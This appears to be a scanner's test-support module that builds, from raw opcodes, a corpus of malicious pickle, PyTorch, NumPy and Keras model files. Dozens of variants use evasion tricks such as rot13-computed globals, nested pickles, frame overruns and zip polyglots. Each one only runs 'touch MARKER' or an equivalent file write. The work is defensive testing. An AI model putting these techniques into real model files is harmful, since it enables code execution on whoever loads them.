"""The malicious corpus, built from raw opcodes (no pickler involved).

Every payload is harmless: run by the loader named in ``live``, it would only create its marker
file (``touch MARKER`` or ``open(MARKER, "w")``). ``build_corpus(dir, markers)`` writes one file
per variant; the tests scan them all and then check that no marker exists, and a separate test
loads the ``live`` ones with the real loader in a subprocess to prove the payloads do run.

Used by tests/test_scan_corpus.py, bench/compare_scanners.py and the tables in SECURITY.md.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

MAGIC = 0x1950A86A20F9469CFC6C


@dataclass(frozen=True)
class Variant:
    name: str
    trick: str
    filename: str
    build: Callable[[str], bytes]  # marker path -> file content
    live: str | None = None  # loader that really runs the payload: pickle, pypickle, torch, numpy, keras


# ---- opcode helpers -------------------------------------------------------------------------
def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def bu(s: str) -> bytes:  # BINUNICODE (protocol 1+)
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def s0(s: str) -> bytes:  # protocol 0 STRING
    return b"S'" + s.encode("unicode_escape").replace(b"'", b"\\'") + b"'\n"


def bb(b: bytes) -> bytes:  # BINBYTES
    return b"B" + struct.pack("<I", len(b)) + b


def sg(module: str, name: str) -> bytes:
    return u(module) + u(name) + b"\x93"


def P(n: int) -> bytes:
    return b"\x80" + bytes([n])


def framed(body: bytes, n: int = 4) -> bytes:
    return P(n) + b"\x95" + struct.pack("<Q", len(body)) + body


def touch(m: str) -> str:
    return f"touch {m}"


def pycode(m: str) -> str:
    return f"open({m!r}, 'w').close()"


def system(m: str) -> bytes:  # os.system("touch m"), protocol 2 ops
    return g("os", "system") + bu(touch(m)) + b"\x85R"


def evil_p2(m: str) -> bytes:
    return P(2) + system(m) + b"."


def benign_p2() -> bytes:
    return pickle.dumps({"w": [1.0, 2.0], "step": 3}, protocol=2)


# ---- containers -----------------------------------------------------------------------------
def zip_of(members: list[tuple[str, bytes]], compress=zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one variant
        with zipfile.ZipFile(buf, "w", compress) as zf:
            for name, data in members:
                zf.writestr(name, data)
    return buf.getvalue()


def torch_zip(pkl: bytes, folder: str = "archive", extra=()) -> bytes:
    return zip_of([(f"{folder}/data.pkl", pkl), (f"{folder}/byteorder", b"little"),
                   *extra, (f"{folder}/version", b"3\n")])


def benign_torch_zip() -> bytes:
    return torch_zip(pickle.dumps({"w": 1.0}, protocol=2))


def legacy(main: bytes, sys_info: bytes | None = None) -> bytes:
    info = sys_info or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                     "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return (pickle.dumps(MAGIC, protocol=2) + pickle.dumps(1001, protocol=2) + info + main
            + pickle.dumps([], protocol=2))


def tar_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_tar(pickle_member: bytes, storages: bytes | None = None) -> bytes:
    return tar_of({
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": pickle_member,
        "storages": storages if storages is not None else pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    })


def npy_object(data_pickle: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    h = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data_pickle


def keras_zip(layer: dict) -> bytes:
    cfg = {"module": "keras", "class_name": "Sequential", "registered_name": None,
           "config": {"name": "seq", "layers": [
               {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                "config": {"batch_shape": [None, 4], "name": "input"}}, layer]}}
    return zip_of([("metadata.json", b'{"keras_version": "3.3.0"}'), ("config.json", json.dumps(cfg).encode()),
                   ("model.weights.h5", b"")])


def lambda_code(m: str) -> str:
    """A Keras ``__lambda__`` code: the marshalled code of ``lambda x: ...`` itself (what Keras'
    ``func_load`` turns into the layer's function and calls when it builds the model), base64 as
    Keras writes it."""
    code = compile(f"lambda x: ({pycode(m)}, x)[1]", "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def h5_model_config(config: dict) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
    return buf.getvalue()


# ---- the variants ---------------------------------------------------------------------------
def _variants() -> list[Variant]:
    V = Variant
    call_getattr = lambda target_ops, attr, m: (  # noqa: E731  getattr(<target>, attr)(touch m)
        g("builtins", "getattr") + target_ops + bu(attr) + b"\x86R" + bu(touch(m)) + b"\x85R")
    marshalled = lambda m: marshal.dumps(compile(pycode(m), "<x>", "exec"))  # noqa: E731
    return [
        V("os_system_p0", "os.system, protocol 0 (GLOBAL/MARK/TUPLE/REDUCE)", "p0.pkl",
          lambda m: g("os", "system") + b"(" + s0(touch(m)) + b"tR.", "pickle"),
        V("posix_system_p1", "posix.system, protocol 1 (BINUNICODE, BINPUT)", "p1.pkl",
          lambda m: g("posix", "system") + b"q\x00(" + bu(touch(m)) + b"tR.", "pickle"),
        V("subprocess_call_p2", "subprocess.call with an argument list, protocol 2", "p2.pkl",
          lambda m: P(2) + g("subprocess", "call") + b"(" + bu("touch") + bu(m) + b"l\x85R.", "pickle"),
        V("builtins_exec_p3", "builtins.exec, protocol 3", "p3.pkl",
          lambda m: P(3) + g("builtins", "exec") + bu(pycode(m)) + b"\x85R.", "pickle"),
        V("builtins_eval_p4_framed", "builtins.eval via STACK_GLOBAL in a correct FRAME, protocol 4", "p4.pkl",
          lambda m: framed(sg("builtins", "eval") + b"\x94" + u(pycode(m)) + b"\x94\x85\x94R\x94."), "pickle"),
        V("builtins_open_p5", "builtins.open(MARKER, 'w'), protocol 5", "p5.pkl",
          lambda m: P(5) + sg("builtins", "open") + u(m) + u("w") + b"\x86R.", "pickle"),
        V("py2_builtin_eval", "__builtin__.eval mapped by fix_imports (protocol 2)", "py2.pkl",
          lambda m: P(2) + g("__builtin__", "eval") + bu(pycode(m)) + b"\x85R.", "pickle"),
        V("dotted_eval_call", "builtins + 'eval.__call__' (dotted name, protocol 4)", "dotted1.pkl",
          lambda m: P(4) + sg("builtins", "eval.__call__") + u(pycode(m)) + b"\x85R.", "pickle"),
        V("dotted_os_system_global", "os + 'system.__call__' through GLOBAL (protocol 4)", "dotted2.pkl",
          lambda m: P(4) + g("os", "system.__call__") + u(touch(m)) + b"\x85R.", "pickle"),
        V("pathlib_os_alias", "pathlib + 'os.system' (attribute alias of a module)", "alias.pkl",
          lambda m: P(4) + sg("pathlib", "os.system") + u(touch(m)) + b"\x85R.", "pickle"),
        V("pathlib_write_text", "pathlib + 'Path.write_text' (method reference)", "pathlib.pkl",
          lambda m: P(4) + sg("pathlib", "Path.write_text") + sg("pathlib", "Path") + u(m) + b"\x85R"
          + u("x") + b"\x86R.", "pickle"),
        V("importlib_import_module", "importlib.import_module('os') then getattr", "importlib.pkl",
          lambda m: P(2) + call_getattr(g("importlib", "import_module") + bu("os") + b"\x85R", "system", m) + b".",
          "pickle"),
        V("pkgutil_resolve_name", "pkgutil.resolve_name('os:system')", "pkgutil.pkl",
          lambda m: P(2) + g("pkgutil", "resolve_name") + bu("os:system") + b"\x85R" + bu(touch(m)) + b"\x85R.",
          "pickle"),
        V("dunder_import", "builtins.__import__('os') then getattr", "dunder_import.pkl",
          lambda m: P(2) + call_getattr(g("builtins", "__import__") + bu("os") + b"\x85R", "system", m) + b".",
          "pickle"),
        V("marshal_function_type", "types.FunctionType(marshal.loads(code), {})()", "code_object.pkl",
          lambda m: P(3) + g("types", "FunctionType") + g("marshal", "loads") + bb(marshalled(m)) + b"\x85R}\x86R)R.",
          "pickle"),
        V("runpy_run_code", "runpy._run_code(source, {})", "runpy.pkl",
          lambda m: P(2) + g("runpy", "_run_code") + bu(pycode(m)) + b"}\x86R.", "pickle"),
        V("timeit_setup", "timeit.timeit('pass', setup=<code>)", "timeit.pkl",
          lambda m: P(2) + g("timeit", "timeit") + bu("pass") + bu(pycode(m)) + b"\x86R.", "pickle"),
        V("cprofile_run", "cProfile.run(<code>)", "cprofile.pkl",
          lambda m: P(2) + g("cProfile", "run") + bu(pycode(m)) + b"\x85R.", "pickle"),
        V("numpy_testing_runstring", "numpy.testing._private.utils.runstring(<code>, {})", "np_testing.pkl",
          lambda m: P(2) + g("numpy.testing._private.utils", "runstring") + bu(pycode(m)) + b"}\x86R.", "pickle"),
        V("torch_load_path", "torch.load(<another evil file>)", "torch_load.pkl",
          lambda m: P(2) + g("torch", "load") + bu(m + ".pt") + b"\x85R."),
        V("torch_serialization_load", "torch + 'serialization.load' (dotted torch internal)", "torch_ser.pkl",
          lambda m: P(4) + sg("torch", "serialization.load") + u(m + ".pt") + b"\x85R."),
        V("torch_load_from_bytes", "torch.storage._load_from_bytes(<nested evil pickle>)", "from_bytes.pkl",
          lambda m: P(2) + g("torch.storage", "_load_from_bytes") + bb(evil_p2(m)) + b"\x85R.", "pickle"),
        V("nested_pickle_loads", "pickle.loads(<nested evil pickle>) (protocol 3 bytes)", "nested.pkl",
          lambda m: P(3) + g("pickle", "loads") + bb(evil_p2(m)) + b"\x85R.", "pickle"),
        V("nested_loads_codecs_p2", "_pickle.loads(_codecs.encode(<latin-1 str>)) as protocol 2 writes bytes",
          "nested_p2.pkl", lambda m: P(2) + g("_pickle", "loads") + g("_codecs", "encode")
          + bu(evil_p2(m).decode("latin-1")) + bu("latin1") + b"\x86R\x85R.", "pickle"),
        V("build_setattr_memo", "BUILD on an imported class fetched from the memo (setattr gadget)", "build.pkl",
          lambda m: P(2) + g("argparse", "Namespace") + b"q\x00" + b"0" + b"h\x00" + b"N}" + bu("marker") + bu(m)
          + b"s\x86b."),
        V("stack_global_memo", "STACK_GLOBAL whose operands come from memo GETs", "sg_memo.pkl",
          lambda m: P(4) + u("os") + b"\x94" + b"0" + u("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + u(touch(m))
          + b"\x85R.", "pickle"),
        V("stack_global_computed", "STACK_GLOBAL operands computed by _codecs.encode(rot13)", "sg_rot13.pkl",
          lambda m: P(4) + g("_codecs", "encode") + u("bf") + u("rot13") + b"\x86R" + g("_codecs", "encode")
          + u("flfgrz") + u("rot13") + b"\x86R\x93" + u(touch(m)) + b"\x85R.", "pickle"),
        V("stack_global_bytes", "STACK_GLOBAL with bytes operands", "sg_bytes.pkl",
          lambda m: P(4) + bb(b"os") + bb(b"system") + b"\x93" + u(touch(m)) + b"\x85R."),
        V("frame_overrun", "FRAME longer than the data (pure-Python pickle still runs it)", "frame_overrun.pkl",
          lambda m: P(4) + b"\x95" + struct.pack("<Q", 10_000) + sg("os", "system") + u(touch(m)) + b"\x85R.",
          "pypickle"),
        V("frame_straddle", "opcode straddling a FRAME end", "frame_straddle.pkl",
          lambda m: (lambda body: P(4) + b"\x95" + struct.pack("<Q", 3) + body)(
              sg("os", "system") + u(touch(m)) + b"\x85R."), "pickle"),
        V("frame_past_stop", "FRAME extends past STOP over a hidden second pickle", "frame_stop.pkl",
          lambda m: framed(b"N." + evil_p2(m)), None),
        V("payload_then_corrupt", "payload, then an unknown opcode instead of STOP", "corrupt.pkl",
          lambda m: evil_p2(m)[:-1] + b"\xff\xfe garbage", "pickle"),
        V("payload_then_truncated", "payload, then the file ends (no STOP)", "truncated.pkl",
          lambda m: evil_p2(m)[:-1], "pickle"),
        V("second_pickle_after_stop", "benign pickle, evil pickle after its STOP", "two.pkl",
          lambda m: benign_p2() + evil_p2(m)),
        V("inst_p0", "INST opcode (protocol 0)", "inst.pkl",
          lambda m: b"(" + s0(touch(m)) + b"ios\nsystem\n.", "pickle"),
        V("obj_p1", "OBJ opcode (protocol 1)", "obj.pkl",
          lambda m: b"(" + g("os", "system") + bu(touch(m)) + b"o.", "pickle"),
        V("newobj_popen", "NEWOBJ on subprocess.Popen", "newobj.pkl",
          lambda m: P(2) + g("subprocess", "Popen") + b"(" + bu("touch") + bu(m) + b"l\x85\x81."),
        V("newobj_ex_popen", "NEWOBJ_EX on subprocess.Popen", "newobj_ex.pkl",
          lambda m: P(4) + sg("subprocess", "Popen") + b"(" + u("touch") + u(m) + b"l\x85}\x92."),
        V("ext_code", "EXT1 extension-registry code instead of a name", "ext.pkl",
          lambda m: P(2) + b"\x82\x01" + bu(touch(m)) + b"\x85R."),
        V("operator_methodcaller", "operator.methodcaller('system', cmd) applied to os", "methodcaller.pkl",
          lambda m: P(2) + g("operator", "methodcaller") + bu("system") + bu(touch(m)) + b"\x86R"
          + g("importlib", "import_module") + bu("os") + b"\x85R\x85R.", "pickle"),
        V("joblib_file", "a .joblib file is a pickle", "model.joblib", evil_p2, "pickle"),
        V("torch_zip", "PyTorch zip checkpoint with an evil data.pkl", "zip.pt",
          lambda m: torch_zip(evil_p2(m)), "torch"),
        V("torch_zip_renamed_folder", "zip checkpoint whose archive folder is not 'archive'", "renamed.pt",
          lambda m: torch_zip(evil_p2(m), folder="innocent_name"), "torch"),
        V("torch_zip_extra_pkl", "benign data.pkl plus an extra evil .pkl member", "extra.pt",
          lambda m: torch_zip(pickle.dumps({"w": 1}, protocol=2), extra=[("archive/extra/evil.pkl", evil_p2(m))])),
        V("torch_zip_framed_p4", "zip checkpoint whose data.pkl is protocol 4 with frames", "zip_p4.pt",
          lambda m: torch_zip(framed(sg("os", "system") + u(touch(m)) + b"\x85R.")), "torch"),
        V("zip_prepended_bytes", "zip checkpoint with junk bytes prepended", "prepended.pt",
          lambda m: b"\x00" * 64 + torch_zip(evil_p2(m))),
        V("zip_duplicate_member", "two members named archive/data.pkl (benign first)", "dup.pt",
          lambda m: zip_of([("archive/data.pkl", benign_p2()), ("archive/data.pkl", evil_p2(m)),
                            ("archive/version", b"3\n")])),
        V("zip_hidden_entry", "evil zip entry before another zip's listed members", "hidden.pt",
          lambda m: zip_of([("archive/data.pkl", evil_p2(m))])[:-22] + benign_torch_zip()),
        V("pickle_zip_polyglot", "evil pickle with a benign zip checkpoint appended", "polyglot.pt",
          lambda m: evil_p2(m) + benign_torch_zip(), "torch"),
        V("nested_zip", "zip inside a zip (model.zip holding an evil checkpoint)", "nested.zip",
          lambda m: zip_of([("models/inner.pt", torch_zip(evil_p2(m)))], zipfile.ZIP_DEFLATED)),
        V("legacy_torch_main", "legacy torch.save format, payload in the main pickle", "legacy.pt",
          lambda m: legacy(evil_p2(m)), "torch"),
        V("legacy_torch_sys_info", "legacy torch.save format, payload in sys_info", "legacy_info.pt",
          lambda m: legacy(pickle.dumps({"a": 1}, protocol=2), sys_info=evil_p2(m)), "torch"),
        V("legacy_tar_pickle", "legacy tar checkpoint, payload in the 'pickle' member", "legacy.tar",
          lambda m: legacy_tar(evil_p2(m)), "torch"),
        V("legacy_tar_storages", "legacy tar checkpoint, payload in the 'storages' member", "legacy_st.tar",
          lambda m: legacy_tar(pickle.dumps({}, protocol=2), pickle.dumps(1, protocol=2) + evil_p2(m)), "torch"),
        V("npy_object_array", ".npy object array whose data pickle is evil", "obj.npy",
          lambda m: npy_object(evil_p2(m)), "numpy"),
        V("npz_object_array", ".npz holding an evil object array", "obj.npz",
          lambda m: zip_of([("arr_0.npy", npy_object(evil_p2(m)))]), "numpy"),
        V("keras_lambda", ".keras file with a Lambda layer (marshalled bytecode)", "lambda.keras",
          lambda m: keras_zip({"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                               "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {
                                   "code": lambda_code(m), "defaults": None, "closure": None}}}}), "keras"),
        V("keras_function_os_system", ".keras file naming os.system as an activation", "activation.keras",
          lambda m: keras_zip({"module": "keras.layers", "class_name": "Dense", "registered_name": None,
                               "config": {"name": "d", "units": 2, "activation": {
                                   "module": "os", "class_name": "function", "config": "system",
                                   "registered_name": "function"}}})),
        V("h5_lambda", "legacy Keras .h5 model_config with a Lambda layer", "lambda.h5",
          lambda m: h5_model_config({"class_name": "Sequential", "config": {"name": "s", "layers": [
              {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"}},
              {"class_name": "Lambda", "config": {"name": "l", "function": [lambda_code(m), None, None],
                                                  "function_type": "lambda"}}]}}), "keras"),
    ]


def _round_two() -> tuple[list[Variant], dict[str, set[str]]]:
    """The second red-team round (issue 15), one module per attack surface, with the rules each
    variant must raise; imported here, after the helpers above exist, because those modules build
    their files with them (import this module, not them)."""
    import _malicious_files
    import _malicious_pickle
    import _malicious_zip

    modules = (_malicious_zip, _malicious_files, _malicious_pickle)
    return [v for m in modules for v in m.variants()], {k: r for m in modules for k, r in m.EXPECTED.items()}


ROUND_TWO, ROUND_TWO_EXPECTED = _round_two()
VARIANTS = _variants() + ROUND_TWO


def build_corpus(directory: Path, markers: Path) -> dict[str, Path]:
    """Write every variant into ``directory``; variant ``v`` would create ``markers / v.name``."""
    directory, markers = Path(directory), Path(markers)
    directory.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    out = {}
    for v in VARIANTS:
        path = directory / f"{v.name}__{v.filename}"
        path.write_bytes(v.build(str(markers / v.name)))
        out[v.name] = path
    return out
